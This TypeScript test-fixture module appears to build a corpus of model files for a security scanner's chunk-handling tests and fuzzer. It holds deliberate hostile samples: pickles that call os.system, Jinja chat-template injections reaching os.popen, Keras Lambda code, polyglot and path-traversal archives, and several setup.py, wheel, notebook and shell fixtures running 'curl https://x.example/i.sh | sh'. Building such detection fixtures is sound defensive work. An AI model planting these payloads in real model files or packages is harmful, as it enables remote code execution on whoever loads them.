// The chunk-ownership corpus: the shapes the scan suites use, plus large files whose interesting bytes come after the
// 64 KiB head, and library-written files for every format plugin. Shared by __tests__/scan/chunk-ownership.test.ts
// (every fixture scanned fresh vs from one reused buffer) and bench/fuzz.ts (its seed corpus).
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { deflateSync, gzipSync } from 'node:zlib';
import { crc32c, maskCrc } from '../../../src/scan/formats/crc32c.js';
import { JoblibWriter, legacyTorchFile, PickleWriter } from '../../support/pickle-bytes.js';
import {
  benignPickle, buildZip, cat, enc, evilPickle, floatData, gguf, latin, npy, pGlobal, pStr, safetensors, tar, torchStateDictPickle, torchZip, u16, u32
} from './fixtures.js';

/** How a fixture is scanned: without the file tail (zip callers without Range support), with the text analyzers. */
export interface CorpusOptions { tail?: boolean; analyzers?: boolean }
export type CorpusEntry = [name: string, path: string, bytes: Uint8Array, options?: CorpusOptions];
/** Deterministic incompressible bytes (so deflated fixtures stay large). */
export function noise(n: number, seed = 1): Uint8Array {
  const out = new Uint8Array(n);
  let x = seed * 2654435761 || 1;
  for (let i = 0; i < n; i++) {
    x ^= x << 13; x ^= x >>> 17; x ^= x << 5;
    out[i] = x & 0xff;
  }
  return out;
}

// ---------- fixtures: the shapes the scan suites use, plus large ones whose interesting bytes come after the 64 KiB head ----------

const evil = (cmd = 'id'): Uint8Array => evilPickle(cmd);
/** A few small opcodes first: the sniffer accepts a pickle whose head ends inside a literal only after > 8 opcodes. */
const WARM = 'N0'.repeat(5);
/** A pickle whose payload sits behind a large bytes literal (the VM counts the literal, then meets the import). */
const bigEvilPickle = (n = 100_000): Uint8Array => cat('\x80\x02', WARM, 'B', u32(n), noise(n, 3), '0', pGlobal('os', 'system'), pStr('id'), '\x85R.');
/** A long text opcode (GLOBAL) cut by chunk boundaries: the VM's carry. */
const longLinePickle = (): Uint8Array => cat('\x80\x02', WARM, 'B', u32(70_000), noise(70_000, 4), '0', `c${'os'}\n${'system'}\n`, pStr('x'.repeat(3000)), '\x85R.');
/** A pickle literal holding another pickle (nested VM fed from the literal's bytes). */
const nestedPickle = (): Uint8Array => { const inner = evil('nested'); return cat('\x80\x02', WARM, 'B', u32(80_000 + inner.length), inner, noise(80_000, 5), '.'); };

function npyV2(headerPad: number, body: Uint8Array, descr = '<f4', shape = `(${body.length / 4},)`): Uint8Array {
  let h = `{'descr': '${descr}', 'fortran_order': False, 'shape': ${shape}, }`;
  h += ' '.repeat(headerPad);
  h += ' '.repeat((64 - ((12 + h.length + 1) % 64)) % 64) + '\n';
  return cat([0x93], 'NUMPY', [2, 0], u32(h.length), h, body);
}

function bigSafetensors(tensors: number): Uint8Array {
  const t: Record<string, { dtype: string; shape: number[]; bytes: number }> = {};
  for (let i = 0; i < tensors; i++) t[`model.layers.${i}.self_attn.q_proj.weight`] = { dtype: 'F32', shape: [2], bytes: 8 };
  return safetensors(t, { format: 'pt' });
}

const tplInjection = "{{ cycler.__init__.__globals__.os.popen('id').read() }}";
const tplSplit = "{{ '}}' ~ ''.__class__.__mro__[1].__subclasses__() }}";
const lambdaConfig = { class_name: 'Sequential', config: { layers: [{ class_name: 'Lambda', config: { function: { class_name: '__lambda__', config: { code: '4wEAAAAAAAAA' } } } }] } };

function paxTar(): Uint8Array {
  const pax = enc(`${(' path=evil/payload.pkl\n'.length + 2)} path=evil/payload.pkl\n`);
  const t = tar([{ name: 'big.bin', data: noise(90_000, 6) }, { name: 'PaxHeader', data: pax, type: 'x' }, { name: 'x', data: evil() },
    { name: '././@LongLink', data: enc(`${'d/'.repeat(80)}long-name.pkl\0`), type: 'L' }, { name: 'y', data: bigEvilPickle(70_000) }]);
  return t;
}

function legacyTorch(): Uint8Array {
  const tensors = [{ name: 'w', key: '0', shape: [30_000] }, { name: 'b', key: '1', shape: [4] }];
  return cat(legacyTorchFile(tensors, (k, n) => noise(n, k.length + 7)), evil());
}

function joblibBig(): Uint8Array {
  const j = new JoblibWriter();
  const w = j.w;
  w.emptyDict().memoize().mark();
  w.str('a');
  j.array({ shape: [12_000], code: 'f8', itemsize: 8, data: noise(96_000, 8) });
  w.str('b');
  j.array({ shape: [1], code: 'O', itemsize: 8, objects: (inner) => { inner.global('os', 'system').str('id').tuple(1).reduce(); } });
  w.setitems().stop();
  return w.bytesOut();
}

function protocol4Framed(): Uint8Array {
  const w = new PickleWriter(4);
  w.emptyList().memoize().mark();
  for (let i = 0; i < 4000; i++) w.str(`item-${i}-${'z'.repeat(20)}`);
  w.appends();
  w.global('subprocess', 'check_output');
  w.str('ls').tuple(1).reduce().append().stop();
  return w.bytesOut();
}

/** Files joblib and numpy wrote (scripts/fixtures/loader-positions.py). */
const written = (rel: string): Uint8Array => new Uint8Array(readFileSync(join('__tests__', 'fixtures', 'loaders', rel)));

/** A STOP inside its frame with a payload at the frame's end (read by buffering loaders only), then a joblib file. */
function framedStops(): Uint8Array {
  const junk = latin('cbenign\nthing\n.');
  const frame = (n: number): Uint8Array => cat([0x95], Uint8Array.of(n & 0xff, (n >> 8) & 0xff, 0, 0, 0, 0, 0, 0));
  return cat([0x80, 4], frame(2 + junk.length), 'N.', junk, evil(), written('joblib/mixed.protocol4.joblib'));
}

/** Files written by the real libraries (or by scripts/fixtures/formats/generate.py) for the format plugins. */
const lib = (...p: string[]): Uint8Array => new Uint8Array(readFileSync(join('__tests__', 'fixtures', ...p)));
/** TFRecord framing (tensorflow/core/lib/io/record_writer): length, its masked CRC-32C, data, the data's. */
function tfrecord(...records: Uint8Array[]): Uint8Array {
  return cat(...records.flatMap((d) => {
    const len = new Uint8Array(8);
    new DataView(len.buffer).setBigUint64(0, BigInt(d.length), true);
    return [len, u32(maskCrc(crc32c(len))), d, u32(maskCrc(crc32c(d)))];
  }));
}

export const CHUNK_FIXTURES: CorpusEntry[] = [
  // small shapes from formats/zip/safetensors/properties suites (all inside the head; must stay equal too)
  ['torch zip', 'pytorch_model.bin', torchZip({ tensors: 4, numel: 100 })],
  ['torchscript archive, custom op in code/', 'model.pt', buildZip([
    { name: 'm/data.pkl', data: cat([0x80, 0x02], 'c__torch__\nNet\n', [0x29, 0x81, 0x2e]) }, { name: 'm/constants.pkl', data: cat([0x80, 0x02, 0x29, 0x2e]) },
    { name: 'm/code/__torch__/net.py', data: enc(`def forward(self, x):\n${'  y = torch.linear(x, x)\n'.repeat(4000)}  return ops.custom_ns.run(x)\n`), method: 8 },
    { name: 'm/version', data: enc('3\n') }
  ])],
  ['evil torch zip', 'pytorch_model.bin', torchZip({ dataPkl: evil() })],
  ['npz deflated', 'arrays.npz', buildZip([{ name: 'w.npy', data: npy('<f4', [3, 4], floatData(12)), method: 8 }, { name: 'b.npy', data: npy('<i8', [2], new Uint8Array(16)), method: 8 }])],
  ['npy', 'w.npy', npy('<f4', [4], floatData(4))],
  ['npy object', 'o.npy', npy('|O', [1], evil())],
  ['safetensors', 'model.safetensors', safetensors({ a: { dtype: 'F32', shape: [2, 2], bytes: 16 }, b: { dtype: 'BF16', shape: [3], bytes: 6 } }, { format: 'pt' })],
  ['gguf', 'm.gguf', gguf([['general.architecture', 'str', 'llama'], ['tokenizer.ggml.tokens', 'strarr', ['<s>', '</s>', 'a']], ['tokenizer.chat_template', 'str', tplInjection]], 2)],
  ['legacy tar', 'old.tar', tar([{ name: 'sys_info', data: benignPickle() }, { name: 'pickle', data: benignPickle() }, { name: 'storages', data: evil() }])],
  ['gzip', 'model.pkl.gz', new Uint8Array(gzipSync(evil()))],
  ['zlib', 'model.joblib', new Uint8Array(deflateSync(evil()))],
  ['joblib ZF', 'model.pkl', cat(`ZF${`0x${evil().length.toString(16)}`.padEnd(19, ' ')} `, new Uint8Array(deflateSync(evil())))],
  ['pickle', 'model.pkl', evil()],
  ['tokenizer config', 'tokenizer_config.json', enc(JSON.stringify({ chat_template: tplInjection }))],
  ['tokenizer config, dict form, Python-only JSON (NaN)', 'tokenizer_config.json', enc(`{"n": NaN, "chat_template": {"default": "{{ messages }}", "rag": ${JSON.stringify(tplSplit)}}}`)],
  ['gguf, named template split by }} in a string', 'm.gguf', gguf([['tokenizer.chat_template', 'str', '{{ messages }}'], ['tokenizer.chat_template.tool_use', 'str', tplSplit]])],
  ['h5 lambda', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', new Uint8Array(3000), 'model_config\0', enc(JSON.stringify(lambdaConfig)), new Uint8Array(500))],
  ['keras zip', 'model.keras', buildZip([{ name: 'metadata.json', data: enc('{}'), method: 8 }, { name: 'config.json', data: enc(JSON.stringify(lambdaConfig)), method: 8 }])],
  ['zip no tail', 'pytorch_model.bin', buildZip([{ name: 'archive/data.pkl', data: evil() }]), { tail: false }],
  ['polyglot gguf+pickle', 'model.gguf', cat(evil(), gguf([['a', 'u32', 1]]))],
  ['python', 'setup.py', enc('import os\nos.system("curl https://x.example/i.sh | sh")\n'), { analyzers: true }],
  // large: the bytes that matter arrive after the head, in borrowed chunks
  ['safetensors, header > 64 KiB, pickle appended', 'model.safetensors', cat(bigSafetensors(1500), evil())],
  ['safetensors, big data, pickle appended', 'model.safetensors', cat(safetensors({ w: { dtype: 'U8', shape: [150_000], bytes: 150_000 } }), bigEvilPickle(70_000))],
  ['npy v2, header > 64 KiB, pickle appended', 'w.npy', cat(npyV2(70_000, floatData(64)), evil())],
  ['npy object dtype, big pickle body', 'o.npy', npy('|O', [1], bigEvilPickle())],
  ['npy body > 64 KiB, pickle appended', 'w.npy', cat(npy('|u1', [100_000], noise(100_000, 9)), evil())],
  ['pickle, payload behind 100 KB literal', 'model.pkl', bigEvilPickle()],
  ['pickle, long GLOBAL line across chunks', 'model.pkl', longLinePickle()],
  ['pickle, nested pickle in a literal', 'model.pkl', nestedPickle()],
  ['pickle protocol 4 framed', 'model.pkl', protocol4Framed()],
  ['legacy torch with trailing pickle', 'model.pt', legacyTorch()],
  ['joblib with arrays and object array', 'model.joblib', joblibBig()],
  ['joblib.dump, protocol 4, every array kind (written by joblib)', 'model.joblib', written('joblib/mixed.protocol4.joblib')],
  ['joblib.dump, protocol 0 (written by joblib)', 'model.joblib', written('joblib/mixed.protocol0.joblib')],
  ['joblib.dump, zlib (written by joblib), pickle appended', 'model.joblib', cat(written('joblib/mixed.zlib.joblib'), evil())],
  ['np.save, 3000-field header (written by numpy), pickle appended', 'w.npy', cat(written('npy/wide_header.npy'), evil())],
  ['np.save, object field (written by numpy)', 'o.npy', written('npy/object_field.npy')],
  ['STOP inside a frame, then a joblib file', 'model.pkl', framedStops()],
  ['torch zip, big storages, evil member last', 'pytorch_model.bin', buildZip([
    { name: 'archive/data.pkl', data: torchStateDictPickle([{ name: 'w', key: '0', numel: 40_000, shape: [40_000] }]), align: 64 },
    { name: 'archive/byteorder', data: enc('little'), align: 64 },
    { name: 'archive/data/0', data: noise(160_000, 10), align: 64 },
    { name: 'archive/version', data: enc('3\n'), align: 64 },
    { name: 'archive/extra.pkl', data: evil(), method: 8 }
  ], { gapAfterFirst: evil('gap') })],
  ['zip with hidden bytes after a big member', 'model.zip', buildZip([
    { name: 'a.bin', data: noise(100_000, 11) }, { name: 'b.pkl', data: bigEvilPickle(70_000), method: 8 }, { name: 'c.txt', data: enc('hello') }
  ], { gapAfterFirst: evil('between') })],
  ['zip prepended with a big pickle (polyglot)', 'model.zip', buildZip([{ name: 'a.pkl', data: benignPickle() }], { prefix: bigEvilPickle() })],
  ['npz deflated, big arrays, object array last', 'arrays.npz', buildZip([
    { name: 'w.npy', data: npy('|u1', [120_000], noise(120_000, 12)), method: 8 },
    { name: 'o.npy', data: npy('|O', [1], bigEvilPickle(70_000)), method: 8 }
  ])],
  ['keras archive, config after a big weights member', 'model.keras', buildZip([
    { name: 'metadata.json', data: enc('{"keras_version": "3.5.0"}'), method: 8 },
    { name: 'model.weights.h5', data: cat([0x89], 'HDF\r\n\x1a\n', noise(100_000, 13)) },
    { name: 'config.json', data: enc(JSON.stringify(lambdaConfig)), method: 8 }
  ])],
  ...['big-evil.bz2', 'multi-stream.bz2', 'big-evil.xz', 'multi-stream.xz', 'big-evil.lzma', 'alone-then-xz.lzma', 'big-evil.lz4', 'big-evil-independent.lz4',
    'multi-frame.lz4', 'big-evil.zst', 'multi-frame.zst', 'bad-crc64.xz', 'trailing-garbage.bz2'].map((n): [string, string, Uint8Array] =>
    [`${n} (written by Python's bz2/lzma, python-lz4, python-zstandard)`, `model.pkl.${n}`, new Uint8Array(readFileSync(join('__tests__', 'fixtures', 'compression', n)))]),
  ['gzip of a big pickle, second member after', 'model.pkl.gz', cat(new Uint8Array(gzipSync(bigEvilPickle())), new Uint8Array(gzipSync(evil())))],
  ['gzip of a big pickle, junk after', 'model.pkl.gz', cat(new Uint8Array(gzipSync(bigEvilPickle())), enc('junk after the stream'))],
  ['zlib of a big pickle', 'model.joblib', new Uint8Array(deflateSync(bigEvilPickle()))],
  ['joblib ZF of a big pickle', 'model.pkl', cat(`ZF${`0x${bigEvilPickle().length.toString(16)}`.padEnd(19, ' ')} `, new Uint8Array(deflateSync(bigEvilPickle())))],
  ['tar: big member, pax and long names, payloads', 'model.tar', paxTar()],
  ['gguf: big vocabulary, then a template injection', 'm.gguf', gguf([
    ['general.architecture', 'str', 'llama'],
    ['tokenizer.ggml.tokens', 'strarr', Array.from({ length: 12_000 }, (_v, i) => `tok${i}`)],
    ['general.alignment', 'u32', 32],
    ['tokenizer.chat_template', 'str', tplInjection]
  ], 3)],
  ['h5: Lambda config after 100 KB', 'model.h5', cat([0x89], 'HDF\r\n\x1a\n', noise(100_000, 14).map((b) => (b === 0x7b ? 0 : b)), [0], enc(JSON.stringify(lambdaConfig)), new Uint8Array(300))],
  ['json > 64 KiB, escaped key, template built from pieces', 'tokenizer_config.json', enc(`{"added_tokens": ${JSON.stringify(Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })))}, "chat\\u005ftemplate": ${JSON.stringify("{% set a = '__glo' %}{{ lipsum|attr(a ~ 'bals__') }}")}}`)],
  ['json > 64 KiB with a template injection', 'tokenizer_config.json', enc(JSON.stringify({ added_tokens: Array.from({ length: 4000 }, (_v, i) => ({ id: i, content: `<t${i}>` })), chat_template: tplInjection }))],
  ['python > 64 KiB, analyzers on', 'setup.py', cat(enc(`# ${'x'.repeat(70_000)}\n`), enc('import os\nos.system("curl https://x.example/i.sh | sh")\n')), { analyzers: true }],
  ['ELF', 'tokenizer.model', cat([0x7f], 'ELF', [2, 1, 1, 0], new Uint8Array(8), u16(2), u16(0x3e), noise(100_000, 15))],
  ['unknown binary', 'weights.dat', cat([0xfe, 0], noise(100_000, 16))],
  ['raw latin', 'notes.txt', latin('plain text\n'.repeat(8000))],
  // format plugins: small library-written files, and large ones whose judged part comes after the head
  ['onnx (onnx.save_model, external data)', 'model.onnx', lib('real', 'onnx', 'external', 'model.onnx')],
  ['tensorboard events', 'events.out.tfevents.1', lib('real', 'tensorboard', 'run2', 'events.out.tfevents.1700000001.fixtures.2.0')],
  ['hdf5 superblock at 256 KiB inside safetensors data', 'model.h5', lib('formats', 'hdf5', 'lambda_inside_safetensors_data.h5')],
  ['xgboost ubj', 'model.ubj', lib('real', 'xgboost', 'model.ubj')],
  ['xgboost binary', 'model.bin', lib('real', 'xgboost', 'model.bin')],
  ['fasttext', 'model.bin', lib('real', 'fasttext', 'classifier.bin')],
  ['word2vec binary', 'vectors.bin', lib('real', 'gensim', 'vectors.bin')],
  ['matlab v4', 'w.mat', lib('real', 'scipy', 'weights_v4.mat')],
  ['saved model with ReadFile', 'saved_model.pb', lib('formats', 'tf', 'saved_model_read_file.pb')],
  ['onnx: 100 KB initializer, then an escaping external-data location', 'model.onnx', lib('formats', 'onnx', 'big-then-traversal.onnx')],
  ['tflite: 70 KB buffer, Flex EagerPyFunc', 'model.tflite', lib('formats', 'tflite', 'flex_py_func.tflite')],
  ['flax msgpack: 100 KB array, then more keys', 'flax_model.msgpack', lib('formats', 'msgpack', 'flax_big.msgpack')],
  ['matlab v5: 110 KB compressed, then a struct', 'weights.mat', lib('formats', 'matlab', 'big_compressed.mat')],
  // zips as Python's zipfile writes them to a stream (data descriptors; zip64 descriptors), payload past the head
  ['zip with data descriptors (written by zipfile to a stream)', 'model.zip', lib('fuzz', 'zip-descriptors.zip')],
  ['zip64 with zip64 data descriptors (written by zipfile, force_zip64)', 'model.zip', lib('fuzz', 'zip-descriptors-zip64.zip')],
  ['zip with bzip2 members (written by zipfile)', 'arrays.npz', lib('fuzz', 'zip-bzip2.zip')],
  ['zip with LZMA members (written by zipfile)', 'arrays.npz', lib('fuzz', 'zip-lzma.zip')],
  // text analyzers behind TextCapture, on container members and on files > 64 KiB
  ['wheel: a big module, then one that downloads and runs, analyzers on', 'libs/pkg-1.0-py3-none-any.whl', buildZip([
    { name: 'pkg/__init__.py', data: enc(`# ${'x'.repeat(70_000)}\n`), method: 8 },
    { name: 'pkg/run.py', data: enc('import os\nos.system("curl https://x.example/i.sh | sh")\n'), method: 8 },
    { name: 'pkg-1.0.dist-info/METADATA', data: enc('Name: pkg\n') }
  ]), { analyzers: true }],
  ['sdist tar.gz with a setup.py, analyzers on', 'pkg-1.0.tar.gz', new Uint8Array(gzipSync(tar([
    { name: 'pkg-1.0/README', data: noise(80_000, 18) },
    { name: 'pkg-1.0/setup.py', data: enc('import os\nos.system("curl https://x.example/i.sh | sh")\n') }
  ]))), { analyzers: true }],
  ['chat_template.jinja > 64 KiB, injection at the end, analyzers on', 'chat_template.jinja',
    enc(`${"{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}".repeat(1200)}${tplInjection}`), { analyzers: true }],
  ['notebook > 64 KiB, analyzers on', 'demo.ipynb', enc(JSON.stringify({
    cells: [{ cell_type: 'markdown', metadata: {}, source: ['x'.repeat(70_000)] }, { cell_type: 'code', metadata: {}, execution_count: null, outputs: [], source: ['import os\n', 'os.system("curl https://x.example/i.sh | sh")\n'] }],
    metadata: {}, nbformat: 4, nbformat_minor: 5
  })), { analyzers: true }],
  ['shell script > 64 KiB, analyzers on', 'install.sh', enc(`#!/bin/sh\n${'echo building\n'.repeat(6000)}curl https://x.example/i.sh | sh\n`), { analyzers: true }],
  ['tfrecord: a 100 KB record, then a bad checksum', 'data.tfrecord', cat(tfrecord(noise(100_000, 17), enc('tail record')).slice(0, -1), [0])]
];
